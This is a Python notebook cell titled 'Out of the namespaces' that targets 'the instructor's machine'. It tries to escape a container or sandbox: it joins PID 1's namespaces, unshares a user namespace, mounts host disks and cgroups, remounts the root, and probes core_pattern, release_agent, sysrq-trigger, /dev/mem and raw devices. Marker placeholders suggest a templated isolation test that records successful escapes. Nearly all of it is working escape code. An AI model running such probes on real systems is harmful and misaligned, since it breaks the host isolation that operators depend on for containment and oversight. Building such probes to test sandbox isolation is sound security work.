# %% [markdown] row="A15"
# # Out of the namespaces
#
# The instructor's machine: unshare, setns, mount, chroot, pivot_root, /proc/1/root, devices, cgroups and core patterns.

# %% before="mean-square"
import os, ctypes, glob
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWNET = 0x10000000, 0x00020000, 0x20000000, 0x40000000
def out(path):
    try:
        open(f"{path}@MARK@", "w").write("@TOKEN@")
        print("@CLAIM@", path)
    except OSError as error:
        pass
for pid in ("1", "self", str(os.getppid())):
    out(f"/proc/{pid}/root")
    out(f"/proc/{pid}/cwd/../../../..")
    for kind in ("mnt", "user", "pid", "net"):
        try:
            fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            libc.setns(fd, 0)
        except OSError:
            pass
print("unshare", libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
for path, text in (("/proc/self/setgroups", "deny"), ("/proc/self/uid_map", f"0 {os.getuid()} 1")):
    try:
        open(path, "w").write(text)
    except OSError:
        pass
os.makedirs("m", exist_ok=True)
for source, kind, flags in ((b"/", b"", 4096), (b"proc", b"proc", 0), (b"none", b"cgroup2", 0), (b"/dev/vda", b"ext4", 0), (b"/dev/sda1", b"ext4", 0)):
    print("mount", source, libc.mount(source, b"m", kind, flags, None))
    out(os.path.abspath("m"))
libc.mount(b"none", b"/", None, 0x20 | 0x1000 | 0x4000, None)
out("")
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", *glob.glob("/sys/fs/cgroup/*/release_agent"), "/sys/fs/cgroup/cgroup.procs"):
    try:
        with open(path, "r+b") as stream:
            print("@CLAIM@ opened for writing:", path)
    except OSError:
        pass
for path in ("/dev/mem", "/dev/kmem", "/dev/vda", "/dev/sda", "/dev/fuse", "/dev/kvm"):
    try:
        os.close(os.open(path, os.O_RDWR))
        print("@CLAIM@", path)
    except OSError:
        pass
os.chroot("m") if os.path.isdir("m/usr") else None
